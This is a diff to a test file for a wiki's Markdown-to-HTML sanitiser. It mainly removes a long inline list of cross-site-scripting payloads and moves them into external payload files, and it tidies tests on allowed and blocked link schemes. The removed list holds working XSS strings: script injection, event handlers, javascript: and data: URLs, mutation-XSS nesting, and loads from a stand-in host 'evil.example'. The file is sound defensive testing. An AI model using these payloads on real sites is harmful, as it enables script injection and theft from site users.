@@ -4,7 +4,10 @@ import type { LinkContext } from '@lectern/wiki/references'
 import { expect } from 'chai'
 import fc from 'fast-check'
 import { Parser } from 'htmlparser2'
+import { packagePath } from '../src/paths.ts'
 import { plainText } from '../src/search/index/sections.ts'
+import { families, readFamily } from './browser/support/payloads.ts'
+import { rounds } from './support/rounds.ts'
 
 const context: LinkContext = {
   addresses: makeWikiAddresses({
@@ -79,31 +82,19 @@ const violationsOf = (output: string): string[] => {
 }
 
 describe('HTML: schemes of links', () => {
-  for (const url of [
-    'tel:+1-555-0100',
-    'sms:+15550100?body=tea',
-    'geo:35.01,135.77;u=20',
-    'xmpp:tea@chat.example?join',
-    'irc://irc.example/tea',
-    'ircs://irc.example/tea',
-    'matrix:r/tea:matrix.example',
-    'magnet:?xt=urn:btih:c12fe1c06bba254a9dc9f519b335aa7c1367a88a',
-    'sip:tea@sip.example',
-    'news:rec.food.drink.tea',
-    'ftp://ftp.example/leaves.txt',
-    'bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT',
-    'urn:isbn:0451450523',
-    'mailto:tea@wiki.example',
-  ]) {
+  const KEPT = `tel:+1-555-0100 sms:+15550100?body=tea geo:35.01,135.77;u=20 xmpp:tea@chat.example?join irc://irc.example/tea
+    ircs://irc.example/tea matrix:r/tea:matrix.example magnet:?xt=urn:btih:c12fe1c06bba254a9dc9f519b335aa7c1367a88a
+    sip:tea@sip.example news:rec.food.drink.tea ftp://ftp.example/leaves.txt urn:isbn:0451450523 mailto:tea@wiki.example
+    bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT`
+  for (const url of KEPT.split(/\s+/)) {
     const rel = url.includes('//') ? ' rel="nofollow"' : ''
     const escaped = url.replaceAll('&', '&amp;')
     it(`keeps the URL: ${url}`, () => {
       for (const link of [`[x](${url})`, `[x](<${url}>)`, `[x][1]\n\n[1]: ${url}`, `<a href="${url}">x</a>`])
         expect(html(link), link).to.equal(`<p><a href="${escaped}"${rel}>x</a></p>\n`)
       expect(html(`<${url}>`)).to.equal(`<p><a href="${escaped}"${rel}>${escaped}</a></p>\n`)
-      expect(html(`[x](${url.replace(/^[a-z]+/, (scheme) => scheme.toUpperCase())})`)).to.include(
-        `"${escaped}"`,
-      )
+      const inCapitals = url.replace(/^[a-z]+/, (scheme) => scheme.toUpperCase())
+      expect(html(`[x](${inCapitals})`)).to.include(`"${escaped}"`)
       expect(violationsOf(html(`[x](${url}) <${url}>`))).to.deep.equal([])
       expect(html(`![x](${url}) <video src="${url}" poster="${url}"></video>`)).to.not.include('src=')
     })
@@ -115,29 +106,15 @@ describe('HTML: schemes of links', () => {
     expect(html('<a href="tel:1&quot; onclick=&quot;x()">x</a>')).to.include('"tel:1%22%20onclick=%22x()"')
   })
 
-  for (const url of [
-    'javascript:x()',
-    'JavaScript:x()',
-    'java&#10;script:x()',
-    '&#1;javascript:x()',
-    'vbscript:x',
-    'data:text/html,x',
-    'file:///etc/passwd',
-    'blob:https://wiki.example/1',
-    'about:blank',
-    'view-source:https://wiki.example',
-    'chrome://settings',
-    'ms-msdt:/id',
-    'intent://x#Intent;end',
-    'ssh://host',
-    'telnet://host',
-    'git://host/x',
-  ]) {
-    it(`removes a URL that could run code or reach the reader's machine: ${url}`, () => {
+  const REMOVED = `javascript:x() JavaScript:x() java&#10;script:x() &#1;javascript:x() vbscript:x data:text/html,x
+    file:///etc/passwd blob:https://wiki.example/1 about:blank view-source:https://wiki.example chrome://settings
+    ms-msdt:/id intent://x#Intent;end ssh://host telnet://host git://host/x`
+  it("removes URLs that could run code or reach the reader's machine", () => {
+    for (const url of REMOVED.split(/\s+/)) {
       const output = html(`[x](${url}) <a href="${url}">y</a> [z][1]\n\n[1]: ${url}`)
-      expect(output).to.not.match(/href="(?!https:\/\/en\.wiki\.example\/)/)
-    })
-  }
+      expect(output, url).to.not.match(/href="(?!https:\/\/en\.wiki\.example\/)/)
+    }
+  })
 })
 
 describe('HTML: raw text elements', () => {
@@ -202,24 +179,14 @@ describe('HTML: shows unclosed constructs as text, and keeps the rest of the pag
     })
   }
 
-  for (const name of [
-    'noscript',
-    'select',
-    'option',
-    'svg',
-    'annotation-xml',
-    'object',
-    'template',
-    'frameset',
-    'head',
-    'button',
-  ]) {
-    it(`<${name}>: keeps only the text`, () => {
+  it('keeps only the text of elements that it removes', () => {
+    const names = 'noscript select option svg annotation-xml object template frameset head button'
+    for (const name of names.split(' ')) {
       const text = `before <${name}> after\n\nThe rest.`
-      expect(html(text)).to.equal('<p>before  after</p>\n<p>The rest.</p>\n')
-      expect(plainText(text)).to.equal('before after\nThe rest.')
-    })
-  }
+      expect(html(text), name).to.equal('<p>before  after</p>\n<p>The rest.</p>\n')
+      expect(plainText(text), name).to.equal('before after\nThe rest.')
+    }
+  })
 
   it('removes closed comments and declarations, without creating tags from the text around them', () => {
     expect(html('<div>a<!-- <b> -->b<?php echo ">" ?>c<![CDATA[ > ]]>d<!X>e<!-->f</div>')).to.equal(
@@ -353,161 +320,15 @@ describe('HTML: rendering of Markdown', () => {
   })
 })
 
-const QUOTED = '"><script>alert(1)</script>'
-
-/** One payload per line; `§` is a line end within a payload. */
-const PAYLOADS = `
-<script>alert(1)</script>
-<ScRiPt >alert(1)</sCrIpT>
-<script src=//evil.example/x.js></script>
-<script/x>alert(1)</script>
-<<script>alert(1)//<</script>
-<scr<script>ipt>alert(1)</scr</script>ipt>
-<script>/*</script><script>*/alert(1)</script>
-<img src=x onerror=alert(1)>
-<img src=x:x onerror=alert(1)//
-<img/src=x/onerror=alert(1)>
-<img src="x" \tonerror§=alert(1)>
-<img src='x'onerror=alert(1)>
-<img """><script>alert(1)</script>">
-<img src=javascript:alert(1)>
-<img srcset="javascript:alert(1) 1x, x 2x">
-<img src=data:image/svg+xml;base64,PHN2Zz4=>
-<img style="background:url(javascript:alert(1))" src=a>
-<img src=a usemap=#m ismap longdesc=javascript:alert(1)>
-<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>
-<svg onload=alert(1)>
-<svg><script>alert(1)</script></svg>
-<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
-<svg><animate onbegin=alert(1) attributeName=x dur=1s>
-<svg><set attributeName=href to=javascript:alert(1)>
-<svg><use href="data:image/svg+xml,x#x"/></svg>
-<svg><foreignObject><iframe src=javascript:alert(1)>
-<svg><style><img src=x onerror=alert(1)></style></svg>
-<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
-<math><mi xlink:href="javascript:alert(1)">x</mi></math>
-<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
-<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
-<math href="javascript:alert(1)">x</math>
-<a href="javascript:alert(1)">x</a>
-<a href="JaVaScRiPt:alert(1)">x</a>
-<a href=" &#14; javascript:alert(1)">x</a>
-<a href="java&#9;script:alert(1)">x</a>
-<a href="java&Tab;script&colon;alert(1)">x</a>
-<a href="java&NewLine;script:alert(1)">x</a>
-<a href="&#106;&#97;&#118;&#97;&#115;cript:alert(1)">x</a>
-<a href="\\x01javascript:alert(1)">x</a>
-<a href="vbscript:msgbox(1)">x</a>
-<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
-<a href="blob:https://a.example/x">x</a>
-<a href="file:///etc/passwd">x</a>
-<a href="view-source:javascript:alert(1)">x</a>
-<a href="https://user:pass@evil.example/">x</a>
-<a href="//user:pass@evil.example/">x</a>
-<a href="https:javascript:alert(1)">x</a>
-<a href="mailto:a@b?body=${QUOTED}">x</a>
-<a href="x" ping="https://evil.example" download target=_top onfocus=alert(1) autofocus>x</a>
-<a href="x"onclick=alert(1)>x</a>
-<a href=\`javascript:alert(1)\`>x</a>
-<a id=x name=x tabindex=1 onfocus=alert(1)>x</a>
-<a href="https://en.wiki.example@evil.example/">x</a>
-[x](javascript:alert(1))
-[x](JAVASCRIPT&colon;alert(1))
-[x](javascript&#x3a;alert(1))
-[x](<java script:alert(1)>)
-[x](data:text/html,<script>alert(1)</script>)
-[x](x "${QUOTED}")
-[x](<x"onmouseover="alert(1)>)
-![x](javascript:alert(1))
-![${QUOTED}](x)
-![x](x" onerror="alert(1))
-<javascript:alert(1)>
-[x][r]§§[r]: javascript:alert(1)
-[${QUOTED}](x)
-# <img src=x onerror=alert(1)>
-# x" onmouseover="alert(1)
-<h1 id="x' onclick=alert(1)">x</h1>
-\`\`\`js" onclick="alert(1)§x§\`\`\`
-\`\`\`<script>§alert(1)§\`\`\`
-| a | b |§|---|---|§| <img src=x onerror=alert(1)> | ${QUOTED} |
-<iframe src=javascript:alert(1)></iframe>
-<iframe srcdoc="<script>alert(1)</script>"></iframe>
-<iframe><img src=x onerror=alert(1)></iframe>
-<object data=javascript:alert(1)></object>
-<embed src=javascript:alert(1)>
-<applet code=x></applet>
-<base href=https://evil.example/>
-<link rel=stylesheet href=//evil.example/x.css>
-<meta http-equiv=refresh content="0;url=javascript:alert(1)">
-<style>@import '//evil.example/x.css'</style>
-<style>*{background:url(javascript:alert(1))}</style>
-<div style="width:expression(alert(1))">x</div>
-<div style="position:fixed;inset:0">x</div>
-<div class="modal" id="app">x</div>
-<body onload=alert(1)>
-<html manifest=//evil.example/x>
-<form action=javascript:alert(1)><button>x</button></form>
-<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
-<input onfocus=alert(1) autofocus>
-<input type=image src=x onerror=alert(1)>
-<input type=checkbox onclick=alert(1)>
-<input type="checkbox" name="csrf" value="x" form="f">
-<isindex action=javascript:alert(1) type=image>
-<select autofocus onfocus=alert(1)><option><script>alert(1)</script></option></select>
-<textarea><img src=x onerror=alert(1)></textarea>
-<textarea autofocus onfocus=alert(1)>
-<keygen autofocus onfocus=alert(1)>
-<video><source onerror=alert(1)></video>
-<video src=javascript:alert(1) poster=javascript:alert(1) onloadstart=alert(1)></video>
-<audio src=x onerror=alert(1) autoplay>
-<details open ontoggle=alert(1)>x</details>
-<marquee onstart=alert(1)>x</marquee>
-<xmp><img src=x onerror=alert(1)></xmp>
-<plaintext><img src=x onerror=alert(1)>
-<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
-<noscript><p title="</noscript><img src=x onerror=alert(1)>">
-<noembed><img src=x onerror=alert(1)></noembed>
-<noframes><img src=x onerror=alert(1)></noframes>
-<template><script>alert(1)</script></template>
-<title><img src=x onerror=alert(1)></title>
-<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
-<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>
-<blockquote cite="javascript:alert(1)">x</blockquote>
-<q cite="data:x">x</q><ins cite=vbscript:x>x</ins>
-<!--<img src="--><img src=x onerror=alert(1)//">
-<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
-<![CDATA[<img src=x onerror=alert(1)>]]>
-<?xml-stylesheet href="javascript:alert(1)"?>
-<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
-&lt;script&gt;alert(1)&lt;/script&gt;
-&#60;script>alert(1)&#60;/script>
-<p title="${QUOTED}">x</p>
-<p __proto__=x constructor=y onclick=z>x</p>
-<constructor>x</constructor>
-<x onclick=alert(1)>x</x>
-<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
-<custom-element is=x>y</custom-element>
-<p dir="rtl\u202e" lang="x'onclick=y">x</p>
-<img src=x sizes="expression(alert(1))';x" srcset="//evil.example/a,javascript:x 2x">
-<a href="https://[::1]:99999/">x</a><a href="https://%zz/">y</a>
-<ol start="javascript:1" type="x"><li value="1e9">x</ol>
-<td colspan="99999999">x</td>
-<div>§§<script>§§alert(1)§§</script>§§</div>
-`
-  .trim()
-  .split('\n')
-  .map((line) => line.replaceAll('§', '\n'))
+/** The payloads that also a browser renders, and more. */
+const HOSTILE = [...families(), readFamily(packagePath('test', 'support', 'hostile-markdown.txt'))]
 
 describe('HTML: hostile Markdown gives only allowed HTML', () => {
-  it('has more than 80 payloads', () => {
-    expect(PAYLOADS.length).to.be.greaterThan(80)
-  })
-
-  for (const payload of PAYLOADS) {
-    it(JSON.stringify(payload), () => {
-      for (const markdown of [payload, `text ${payload} text`, `- ${payload}`, `${payload}\n${payload}`]) {
-        expect(violationsOf(html(markdown))).to.deep.equal([])
-      }
+  for (const { title, payloads } of HOSTILE) {
+    it(title, () => {
+      for (const payload of payloads)
+        for (const markdown of [payload, `text ${payload} text`, `- ${payload}`, `${payload}\n${payload}`])
+          expect(violationsOf(html(markdown)), JSON.stringify(payload)).to.deep.equal([])
     })
   }
 
@@ -521,21 +342,12 @@ describe('HTML: hostile Markdown gives only allowed HTML', () => {
     ])
   })
 
+  const signs =
+    '< > " \' = & ; : / \\ ` * _ [ ] ( ) ! # | - + . ~ <a href= <img src= <img srcset= --> </ javascript: https://'
   const fragments = fc.constantFrom(
-    ...PAYLOADS,
-    ...`< > " ' = & ; : / \\ \` * _ [ ] ( ) ! # | - + . ~`.split(' '),
-    '<a href=',
-    '<img src=',
-    '<img srcset=',
-    '-->',
-    '</',
-    '\n',
-    '\n\n',
-    '    ',
-    '\u0000',
-    '\t',
-    'javascript:',
-    'https://',
+    ...HOSTILE.flatMap(({ payloads }) => payloads),
+    ...signs.split(' '),
+    ...['\n', '\n\n', '    ', '\u0000', '\t'],
   )
 
   it('renders any mixture of payloads to allowed tags and absolute URLs, without an error', () => {
@@ -548,7 +360,7 @@ describe('HTML: hostile Markdown gives only allowed HTML', () => {
         expect(output.toLowerCase()).to.not.include('<script')
         expect(violationsOf(output)).to.deep.equal([])
       }),
-      { numRuns: 500 },
+      { numRuns: rounds(100) },
     )
   })
 
@@ -564,7 +376,7 @@ describe('HTML: hostile Markdown gives only allowed HTML', () => {
         const output = html(`<p><a href="${one}">x</a><img src="${one}" srcset="${two} 2x, ${one}"></p>`)
         expect(violationsOf(output)).to.deep.equal([])
       }),
-      { numRuns: 500 },
+      { numRuns: rounds(100) },
     )
   })
 })
